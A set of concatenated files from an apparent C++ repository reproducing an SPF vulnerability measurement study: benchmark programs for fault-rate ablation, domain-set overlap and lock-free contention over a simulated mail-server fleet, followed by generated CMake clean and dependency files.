// 0% to 20% over the same small fleet and reports how the retry/backoff
// engine and the re-queue wave hold the conclusive rate up — the
// conclusive-rate-vs-fault-rate curve bench_fig5_conclusive's degradation
// table shows for one configured rate.
#include "bench_common.hpp"

#include "faults/fault.hpp"
#include "net/trace_stats.hpp"
#include "population/fleet.hpp"
#include "report/tables.hpp"
#include "scan/campaign.hpp"

namespace {

using namespace spfail;

scan::CampaignReport run_at_rate(double rate,
                                 net::WireTrace* trace = nullptr) {
  population::FleetConfig fleet_config;
  fleet_config.scale = 0.02;
  fleet_config.mix = population::PolicyMix::paper_baseline();
  population::Fleet fleet(fleet_config);

  scan::CampaignConfig config;
  config.prober.responder = fleet.responder();
  config.faults.rate = rate;
  config.trace = trace;
  scan::Campaign campaign(config, fleet.dns(), fleet.clock(), fleet);
  return campaign.run(fleet.targets());
}

void BM_FaultPlanDecide(benchmark::State& state) {
  faults::FaultConfig config;
  config.rate = 0.1;
  const faults::FaultPlan plan(config);
  const util::IpAddress address = util::IpAddress::v4(198, 51, 100, 7);
  std::uint64_t attempt = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(plan.probe_decision(address, 0, attempt++));
  }
}
BENCHMARK(BM_FaultPlanDecide);

void BM_FaultedCampaign(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(run_at_rate(0.1));
  }
}
BENCHMARK(BM_FaultedCampaign)->Unit(benchmark::kMillisecond);

std::string percent(double fraction) {
  char buffer[32];
  std::snprintf(buffer, sizeof(buffer), "%.2f%%", fraction * 100.0);
  return buffer;
}

}  // namespace

int main(int argc, char** argv) {
  report::ReproSession session(0.02);
  bench::print_header(
      "Ablation: conclusive rate vs injected transient-fault rate "
      "(same fleet, SMTP tempfails / connection drops / latency spikes)",
      "SPFail, section 6.1 — conclusive vs inconclusive tests", session);

  util::TextTable table(
      {"Fault rate", "Addresses", "Conclusive", "Conclusive rate", "Injected",
       "Retries", "Recovered", "Exhausted", "Re-queued", "Breaker trips"},
      {util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right});
  for (const double rate : {0.0, 0.02, 0.05, 0.10, 0.20}) {
    const scan::CampaignReport report = run_at_rate(rate);
    const faults::DegradationReport& deg = report.degradation;
    table.add_row({percent(rate), std::to_string(deg.addresses_tested),
                   std::to_string(deg.conclusive),
                   percent(deg.conclusive_rate()),
                   std::to_string(deg.injected_total()),
                   std::to_string(deg.retries), std::to_string(deg.recovered),
                   std::to_string(deg.exhausted),
                   std::to_string(deg.requeued),
                   std::to_string(deg.breaker_trips)});
  }
  bench::maybe_export_csv(session, "ablation_faults", table);

  // What the injected faults look like on the wire: re-run the 10% row with
  // the structured trace attached and summarise the frame mix (the injected
  // row counts synthesised tempfail replies, drop markers and SERVFAILs).
  net::WireTrace trace;
  run_at_rate(0.10, &trace);
  std::cout << report::trace_summary(net::TraceStats::from(trace)) << "\n";

  std::cout << table << "\n"
            << "Reading: every row is bit-identical across reruns and thread "
               "counts (the plan is keyed by address/round/attempt, never by "
               "schedule). The conclusive rate decays far slower than the "
               "fault rate rises because the retry engine recovers most "
               "transients and the re-queue wave catches stragglers; what "
               "remains is surfaced as 'exhausted' rather than silently "
               "misclassified.\n\n";
  return bench::run_benchmarks(argc, argv);
}
