// Table 1 — overlap in domain measurement sets.
#include "bench_common.hpp"

#include "population/fleet.hpp"

namespace {

void BM_FleetConstruction(benchmark::State& state) {
  for (auto _ : state) {
    spfail::population::FleetConfig config;
    config.scale = 0.002;
    config.mix = spfail::population::PolicyMix::paper_baseline();
    spfail::population::Fleet fleet(config);
    benchmark::DoNotOptimize(fleet.address_count());
  }
}
BENCHMARK(BM_FleetConstruction)->Unit(benchmark::kMillisecond);

void BM_TargetsEnumeration(benchmark::State& state) {
  spfail::population::FleetConfig config;
  config.scale = 0.01;
  config.mix = spfail::population::PolicyMix::paper_baseline();
  spfail::population::Fleet fleet(config);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fleet.targets());
  }
}
BENCHMARK(BM_TargetsEnumeration)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  spfail::report::ReproSession session;
  spfail::bench::print_header("Table 1: Overlap in domain measurement sets",
                              "SPFail, section 5.2", session);
  std::cout << spfail::report::table1_overlap(session.fleet()) << "\n"
            << "Paper (full scale): 2-Week MX 22,911; 135 (0.5%) in Alexa "
               "1000; 2,922 (12.7%) in Alexa Top List (418,842).\n\n";
  return spfail::bench::run_benchmarks(argc, argv);
}
