// Contention microbench for the lock-free scan core (DESIGN.md §16).
//
// Two surfaces, each at 1/2/8 threads:
//
//   table  — util::ConcurrentTable throughput on its two paths: the miss
//            path (CAS-claim a fresh slot, publish) and the hit path (probe
//            to an already-published slot), all threads hammering one shared
//            table the way the record cache and breaker groups do.
//   steal  — scheduler overhead: the same deliberately skewed synthetic
//            workload dispatched through the static one-shard-per-worker
//            split and through the work-stealing batch scheduler (none /
//            random / adversarial), so the steal machinery's cost — and the
//            rebalancing it buys under skew — is a number, not a hunch.
//
// Results go to stdout as a table and to --out (default
// BENCH_contention.json) as machine-readable JSON. Wall-clock numbers are
// hardware-dependent by nature; nothing here feeds the deterministic
// outputs.
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

#include "util/concurrent_table.hpp"
#include "util/table.hpp"
#include "util/thread_pool.hpp"

namespace {

using namespace spfail;

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

// ------------------------------------------------------------------ table

struct Counter {
  std::atomic<std::uint64_t> value{0};
};

struct TableRates {
  double miss_mops = 0.0;  // million find_or_insert misses / second
  double hit_mops = 0.0;   // million hit-path lookups / second
};

// `keys` distinct keys split across `threads` inserters (miss path), then
// every thread re-probes the full key set `rounds` times (hit path).
TableRates measure_table(int threads, std::uint64_t keys, int rounds) {
  util::ConcurrentTable<Counter> table(keys);
  TableRates rates;
  {
    const auto start = std::chrono::steady_clock::now();
    std::vector<std::thread> inserters;
    for (int t = 0; t < threads; ++t) {
      inserters.emplace_back([&, t] {
        for (std::uint64_t k = static_cast<std::uint64_t>(t); k < keys;
             k += static_cast<std::uint64_t>(threads)) {
          table.find_or_insert(k, [&](Counter& c) { c.value.store(k); });
        }
      });
    }
    for (auto& thread : inserters) thread.join();
    rates.miss_mops =
        static_cast<double>(keys) / seconds_since(start) / 1e6;
  }
  {
    const auto start = std::chrono::steady_clock::now();
    std::vector<std::thread> readers;
    for (int t = 0; t < threads; ++t) {
      readers.emplace_back([&] {
        std::uint64_t sink = 0;
        for (int r = 0; r < rounds; ++r) {
          for (std::uint64_t k = 0; k < keys; ++k) {
            sink += table.find_or_insert(k).payload->value.load(
                std::memory_order_relaxed);
          }
        }
        // Defeat dead-code elimination without atomics in the hot loop.
        if (sink == 0xdeadbeef) std::fprintf(stderr, "impossible\n");
      });
    }
    for (auto& thread : readers) thread.join();
    rates.hit_mops = static_cast<double>(keys) * rounds * threads /
                     seconds_since(start) / 1e6;
  }
  return rates;
}

// ------------------------------------------------------------------ steal

// Skewed per-item cost — the first tenth of the range is 16x heavier, the
// shape static sharding handles worst (shard 0 becomes the straggler).
std::uint64_t item_work(std::size_t i, std::size_t n, int spin) {
  const int reps = (i < n / 10) ? spin * 16 : spin;
  std::uint64_t h = 1469598103934665603ULL ^ i;
  for (int r = 0; r < reps; ++r) {
    h ^= r;
    h *= 1099511628211ULL;
  }
  return h;
}

double measure_dispatch(int threads, std::size_t n, int spin,
                        util::SchedPolicy policy, util::StealMode mode) {
  util::ThreadPool pool(threads);
  util::SchedulerOptions opts;
  opts.policy = policy;
  opts.steal = mode;
  std::vector<std::uint64_t> sums(pool.slice_count(n, opts));
  const auto start = std::chrono::steady_clock::now();
  pool.parallel_for_slices(
      n, opts, [&](std::size_t slice, std::size_t begin, std::size_t end) {
        std::uint64_t sum = 0;
        for (std::size_t i = begin; i < end; ++i) sum += item_work(i, n, spin);
        sums[slice] = sum;
      });
  return seconds_since(start);
}

struct StealTimes {
  double static_s = 0.0;
  double none_s = 0.0;
  double random_s = 0.0;
  double adversarial_s = 0.0;
};

StealTimes measure_steal(int threads, std::size_t n, int spin) {
  StealTimes times;
  times.static_s = measure_dispatch(threads, n, spin, util::SchedPolicy::Static,
                                    util::StealMode::None);
  times.none_s = measure_dispatch(threads, n, spin, util::SchedPolicy::Steal,
                                  util::StealMode::None);
  times.random_s = measure_dispatch(threads, n, spin, util::SchedPolicy::Steal,
                                    util::StealMode::Random);
  times.adversarial_s = measure_dispatch(
      threads, n, spin, util::SchedPolicy::Steal, util::StealMode::Adversarial);
  return times;
}

}  // namespace

int main(int argc, char** argv) {
  std::string out_path = "BENCH_contention.json";
  std::uint64_t keys = 1 << 16;  // distinct table keys per lane
  int rounds = 8;                // hit-path sweeps per thread
  std::size_t items = 1 << 15;   // scheduler workload size
  int spin = 64;                 // base per-item spin reps
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::cerr << "missing value for " << arg << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--out") {
      out_path = next();
    } else if (arg == "--keys") {
      keys = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--rounds") {
      rounds = static_cast<int>(std::strtol(next(), nullptr, 10));
    } else if (arg == "--items") {
      items = std::strtoull(next(), nullptr, 10);
    } else if (arg == "--spin") {
      spin = static_cast<int>(std::strtol(next(), nullptr, 10));
    } else {
      std::cerr << "unknown option " << arg
                << " (expected --out PATH, --keys N, --rounds N, --items N, "
                   "--spin N)\n";
      return 2;
    }
  }

  const int lanes[] = {1, 2, 8};
  std::cout << "Lock-free scan core contention (DESIGN.md §16): "
            << keys << " keys, " << items << " items\n\n";

  std::vector<TableRates> table_rates;
  std::vector<StealTimes> steal_times;
  for (const int threads : lanes) {
    table_rates.push_back(measure_table(threads, keys, rounds));
    steal_times.push_back(measure_steal(threads, items, spin));
  }

  util::TextTable table(
      {"Threads", "Table miss Mop/s", "Table hit Mop/s", "Static s",
       "Steal(none) s", "Steal(random) s", "Steal(adv) s"},
      {util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right, util::Align::Right, util::Align::Right,
       util::Align::Right});
  const auto fmt = [](double v) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.3f", v);
    return std::string(buf);
  };
  for (std::size_t i = 0; i < std::size(lanes); ++i) {
    table.add_row({std::to_string(lanes[i]), fmt(table_rates[i].miss_mops),
                   fmt(table_rates[i].hit_mops), fmt(steal_times[i].static_s),
                   fmt(steal_times[i].none_s), fmt(steal_times[i].random_s),
                   fmt(steal_times[i].adversarial_s)});
  }
  std::cout << table << "\n";

  std::ofstream out(out_path, std::ios::trunc);
  if (!out) {
    std::cerr << "warning: cannot write " << out_path << "\n";
    return 0;
  }
  out << "{\n  \"keys\": " << keys << ",\n  \"items\": " << items
      << ",\n  \"lanes\": [\n";
  for (std::size_t i = 0; i < std::size(lanes); ++i) {
    out << "    {\n      \"threads\": " << lanes[i] << ",\n"
        << "      \"table_miss_mops\": " << table_rates[i].miss_mops << ",\n"
        << "      \"table_hit_mops\": " << table_rates[i].hit_mops << ",\n"
        << "      \"steal\": {\n"
        << "        \"static_seconds\": " << steal_times[i].static_s << ",\n"
        << "        \"none_seconds\": " << steal_times[i].none_s << ",\n"
        << "        \"random_seconds\": " << steal_times[i].random_s << ",\n"
        << "        \"adversarial_seconds\": " << steal_times[i].adversarial_s
        << "\n      }\n    }" << (i + 1 < std::size(lanes) ? "," : "")
        << "\n";
  }
  out << "  ]\n}\n";
  std::cout << "(json written to " << out_path << ")\n";
  return 0;
}
