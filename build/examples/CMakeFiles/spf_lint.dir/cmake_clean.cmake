file(REMOVE_RECURSE
  "CMakeFiles/spf_lint.dir/spf_lint.cpp.o"
  "CMakeFiles/spf_lint.dir/spf_lint.cpp.o.d"
  "spf_lint"
  "spf_lint.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/spf_lint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
