# Empty dependencies file for spf_lint.
# This may be replaced when dependencies are built.
