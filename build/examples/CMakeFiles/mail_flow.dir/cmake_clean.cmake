file(REMOVE_RECURSE
  "CMakeFiles/mail_flow.dir/mail_flow.cpp.o"
  "CMakeFiles/mail_flow.dir/mail_flow.cpp.o.d"
  "mail_flow"
  "mail_flow.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mail_flow.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
