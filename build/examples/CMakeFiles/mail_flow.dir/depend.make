# Empty dependencies file for mail_flow.
# This may be replaced when dependencies are built.
