file(REMOVE_RECURSE
  "CMakeFiles/spfail_scan.dir/spfail_scan.cpp.o"
  "CMakeFiles/spfail_scan.dir/spfail_scan.cpp.o.d"
  "spfail_scan"
  "spfail_scan.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/spfail_scan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
