# Empty dependencies file for spfail_scan.
# This may be replaced when dependencies are built.
