file(REMOVE_RECURSE
  "CMakeFiles/mini_campaign.dir/mini_campaign.cpp.o"
  "CMakeFiles/mini_campaign.dir/mini_campaign.cpp.o.d"
  "mini_campaign"
  "mini_campaign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mini_campaign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
