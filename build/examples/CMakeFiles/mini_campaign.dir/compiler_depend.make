# Empty compiler generated dependencies file for mini_campaign.
# This may be replaced when dependencies are built.
