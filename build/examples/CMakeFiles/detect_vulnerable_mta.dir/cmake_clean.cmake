file(REMOVE_RECURSE
  "CMakeFiles/detect_vulnerable_mta.dir/detect_vulnerable_mta.cpp.o"
  "CMakeFiles/detect_vulnerable_mta.dir/detect_vulnerable_mta.cpp.o.d"
  "detect_vulnerable_mta"
  "detect_vulnerable_mta.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/detect_vulnerable_mta.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
