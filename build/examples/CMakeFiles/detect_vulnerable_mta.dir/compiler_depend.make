# Empty compiler generated dependencies file for detect_vulnerable_mta.
# This may be replaced when dependencies are built.
