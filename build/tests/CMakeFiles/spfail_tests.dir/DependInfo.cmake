
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/determinism_test.cpp" "tests/CMakeFiles/spfail_tests.dir/determinism_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/determinism_test.cpp.o.d"
  "/root/repo/tests/dmarc_test.cpp" "tests/CMakeFiles/spfail_tests.dir/dmarc_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/dmarc_test.cpp.o.d"
  "/root/repo/tests/dns_test.cpp" "tests/CMakeFiles/spfail_tests.dir/dns_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/dns_test.cpp.o.d"
  "/root/repo/tests/forwarder_test.cpp" "tests/CMakeFiles/spfail_tests.dir/forwarder_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/forwarder_test.cpp.o.d"
  "/root/repo/tests/inference_test.cpp" "tests/CMakeFiles/spfail_tests.dir/inference_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/inference_test.cpp.o.d"
  "/root/repo/tests/longitudinal_test.cpp" "tests/CMakeFiles/spfail_tests.dir/longitudinal_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/longitudinal_test.cpp.o.d"
  "/root/repo/tests/mail_dkim_test.cpp" "tests/CMakeFiles/spfail_tests.dir/mail_dkim_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/mail_dkim_test.cpp.o.d"
  "/root/repo/tests/misc_edge_test.cpp" "tests/CMakeFiles/spfail_tests.dir/misc_edge_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/misc_edge_test.cpp.o.d"
  "/root/repo/tests/mta_dmarc_test.cpp" "tests/CMakeFiles/spfail_tests.dir/mta_dmarc_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/mta_dmarc_test.cpp.o.d"
  "/root/repo/tests/mta_scan_test.cpp" "tests/CMakeFiles/spfail_tests.dir/mta_scan_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/mta_scan_test.cpp.o.d"
  "/root/repo/tests/notification_email_test.cpp" "tests/CMakeFiles/spfail_tests.dir/notification_email_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/notification_email_test.cpp.o.d"
  "/root/repo/tests/payload_test.cpp" "tests/CMakeFiles/spfail_tests.dir/payload_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/payload_test.cpp.o.d"
  "/root/repo/tests/population_test.cpp" "tests/CMakeFiles/spfail_tests.dir/population_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/population_test.cpp.o.d"
  "/root/repo/tests/received_spf_test.cpp" "tests/CMakeFiles/spfail_tests.dir/received_spf_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/received_spf_test.cpp.o.d"
  "/root/repo/tests/recursive_test.cpp" "tests/CMakeFiles/spfail_tests.dir/recursive_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/recursive_test.cpp.o.d"
  "/root/repo/tests/report_test.cpp" "tests/CMakeFiles/spfail_tests.dir/report_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/report_test.cpp.o.d"
  "/root/repo/tests/rfc7208_vectors_test.cpp" "tests/CMakeFiles/spfail_tests.dir/rfc7208_vectors_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/rfc7208_vectors_test.cpp.o.d"
  "/root/repo/tests/scan_test.cpp" "tests/CMakeFiles/spfail_tests.dir/scan_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/scan_test.cpp.o.d"
  "/root/repo/tests/smtp_client_test.cpp" "tests/CMakeFiles/spfail_tests.dir/smtp_client_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/smtp_client_test.cpp.o.d"
  "/root/repo/tests/smtp_test.cpp" "tests/CMakeFiles/spfail_tests.dir/smtp_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/smtp_test.cpp.o.d"
  "/root/repo/tests/spf_conformance_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_conformance_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_conformance_test.cpp.o.d"
  "/root/repo/tests/spf_edge_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_edge_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_edge_test.cpp.o.d"
  "/root/repo/tests/spf_eval_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_eval_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_eval_test.cpp.o.d"
  "/root/repo/tests/spf_macro_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_macro_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_macro_test.cpp.o.d"
  "/root/repo/tests/spf_p_macro_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_p_macro_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_p_macro_test.cpp.o.d"
  "/root/repo/tests/spf_record_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spf_record_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spf_record_test.cpp.o.d"
  "/root/repo/tests/spfvuln_test.cpp" "tests/CMakeFiles/spfail_tests.dir/spfvuln_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/spfvuln_test.cpp.o.d"
  "/root/repo/tests/stats_test.cpp" "tests/CMakeFiles/spfail_tests.dir/stats_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/stats_test.cpp.o.d"
  "/root/repo/tests/thread_pool_test.cpp" "tests/CMakeFiles/spfail_tests.dir/thread_pool_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/thread_pool_test.cpp.o.d"
  "/root/repo/tests/util_test.cpp" "tests/CMakeFiles/spfail_tests.dir/util_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/util_test.cpp.o.d"
  "/root/repo/tests/wire_property_test.cpp" "tests/CMakeFiles/spfail_tests.dir/wire_property_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/wire_property_test.cpp.o.d"
  "/root/repo/tests/zonefile_test.cpp" "tests/CMakeFiles/spfail_tests.dir/zonefile_test.cpp.o" "gcc" "tests/CMakeFiles/spfail_tests.dir/zonefile_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/spfail.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
