# Empty dependencies file for spfail_tests.
# This may be replaced when dependencies are built.
