file(REMOVE_RECURSE
  "CMakeFiles/bench_table7_behaviors.dir/bench_table7_behaviors.cpp.o"
  "CMakeFiles/bench_table7_behaviors.dir/bench_table7_behaviors.cpp.o.d"
  "bench_table7_behaviors"
  "bench_table7_behaviors.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table7_behaviors.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
