# Empty dependencies file for bench_table7_behaviors.
# This may be replaced when dependencies are built.
