file(REMOVE_RECURSE
  "CMakeFiles/bench_table5_tld_patch.dir/bench_table5_tld_patch.cpp.o"
  "CMakeFiles/bench_table5_tld_patch.dir/bench_table5_tld_patch.cpp.o.d"
  "bench_table5_tld_patch"
  "bench_table5_tld_patch.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table5_tld_patch.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
