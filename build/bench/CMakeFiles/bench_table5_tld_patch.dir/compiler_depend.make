# Empty compiler generated dependencies file for bench_table5_tld_patch.
# This may be replaced when dependencies are built.
