file(REMOVE_RECURSE
  "CMakeFiles/bench_fig7_full.dir/bench_fig7_full.cpp.o"
  "CMakeFiles/bench_fig7_full.dir/bench_fig7_full.cpp.o.d"
  "bench_fig7_full"
  "bench_fig7_full.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig7_full.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
