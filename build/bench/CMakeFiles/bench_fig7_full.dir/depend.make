# Empty dependencies file for bench_fig7_full.
# This may be replaced when dependencies are built.
