file(REMOVE_RECURSE
  "CMakeFiles/bench_table2_tlds.dir/bench_table2_tlds.cpp.o"
  "CMakeFiles/bench_table2_tlds.dir/bench_table2_tlds.cpp.o.d"
  "bench_table2_tlds"
  "bench_table2_tlds.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table2_tlds.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
