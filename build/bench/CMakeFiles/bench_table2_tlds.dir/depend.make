# Empty dependencies file for bench_table2_tlds.
# This may be replaced when dependencies are built.
