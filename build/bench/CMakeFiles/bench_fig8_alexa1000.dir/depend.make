# Empty dependencies file for bench_fig8_alexa1000.
# This may be replaced when dependencies are built.
