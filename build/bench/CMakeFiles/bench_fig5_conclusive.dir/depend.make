# Empty dependencies file for bench_fig5_conclusive.
# This may be replaced when dependencies are built.
