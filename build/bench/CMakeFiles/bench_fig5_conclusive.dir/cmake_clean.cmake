file(REMOVE_RECURSE
  "CMakeFiles/bench_fig5_conclusive.dir/bench_fig5_conclusive.cpp.o"
  "CMakeFiles/bench_fig5_conclusive.dir/bench_fig5_conclusive.cpp.o.d"
  "bench_fig5_conclusive"
  "bench_fig5_conclusive.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig5_conclusive.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
