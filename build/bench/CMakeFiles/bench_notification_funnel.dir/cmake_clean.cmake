file(REMOVE_RECURSE
  "CMakeFiles/bench_notification_funnel.dir/bench_notification_funnel.cpp.o"
  "CMakeFiles/bench_notification_funnel.dir/bench_notification_funnel.cpp.o.d"
  "bench_notification_funnel"
  "bench_notification_funnel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_notification_funnel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
