# Empty dependencies file for bench_notification_funnel.
# This may be replaced when dependencies are built.
