file(REMOVE_RECURSE
  "CMakeFiles/bench_table1_overlap.dir/bench_table1_overlap.cpp.o"
  "CMakeFiles/bench_table1_overlap.dir/bench_table1_overlap.cpp.o.d"
  "bench_table1_overlap"
  "bench_table1_overlap.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table1_overlap.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
