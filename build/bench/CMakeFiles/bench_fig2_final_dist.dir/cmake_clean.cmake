file(REMOVE_RECURSE
  "CMakeFiles/bench_fig2_final_dist.dir/bench_fig2_final_dist.cpp.o"
  "CMakeFiles/bench_fig2_final_dist.dir/bench_fig2_final_dist.cpp.o.d"
  "bench_fig2_final_dist"
  "bench_fig2_final_dist.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig2_final_dist.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
