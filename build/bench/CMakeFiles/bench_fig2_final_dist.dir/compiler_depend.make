# Empty compiler generated dependencies file for bench_fig2_final_dist.
# This may be replaced when dependencies are built.
