# Empty dependencies file for bench_table6_pkgmgr.
# This may be replaced when dependencies are built.
