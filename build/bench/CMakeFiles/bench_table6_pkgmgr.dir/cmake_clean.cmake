file(REMOVE_RECURSE
  "CMakeFiles/bench_table6_pkgmgr.dir/bench_table6_pkgmgr.cpp.o"
  "CMakeFiles/bench_table6_pkgmgr.dir/bench_table6_pkgmgr.cpp.o.d"
  "bench_table6_pkgmgr"
  "bench_table6_pkgmgr.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table6_pkgmgr.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
