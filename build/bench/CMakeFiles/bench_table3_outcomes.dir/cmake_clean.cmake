file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_outcomes.dir/bench_table3_outcomes.cpp.o"
  "CMakeFiles/bench_table3_outcomes.dir/bench_table3_outcomes.cpp.o.d"
  "bench_table3_outcomes"
  "bench_table3_outcomes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_outcomes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
