# Empty dependencies file for bench_table3_outcomes.
# This may be replaced when dependencies are built.
