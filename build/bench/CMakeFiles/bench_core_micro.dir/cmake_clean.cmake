file(REMOVE_RECURSE
  "CMakeFiles/bench_core_micro.dir/bench_core_micro.cpp.o"
  "CMakeFiles/bench_core_micro.dir/bench_core_micro.cpp.o.d"
  "bench_core_micro"
  "bench_core_micro.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_core_micro.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
