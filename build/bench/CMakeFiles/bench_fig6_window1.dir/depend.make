# Empty dependencies file for bench_fig6_window1.
# This may be replaced when dependencies are built.
