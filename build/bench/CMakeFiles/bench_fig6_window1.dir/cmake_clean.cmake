file(REMOVE_RECURSE
  "CMakeFiles/bench_fig6_window1.dir/bench_fig6_window1.cpp.o"
  "CMakeFiles/bench_fig6_window1.dir/bench_fig6_window1.cpp.o.d"
  "bench_fig6_window1"
  "bench_fig6_window1.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig6_window1.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
