file(REMOVE_RECURSE
  "libspfail.a"
)
