
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/dkim/dkim.cpp" "src/CMakeFiles/spfail.dir/dkim/dkim.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dkim/dkim.cpp.o.d"
  "/root/repo/src/dmarc/discovery.cpp" "src/CMakeFiles/spfail.dir/dmarc/discovery.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dmarc/discovery.cpp.o.d"
  "/root/repo/src/dmarc/record.cpp" "src/CMakeFiles/spfail.dir/dmarc/record.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dmarc/record.cpp.o.d"
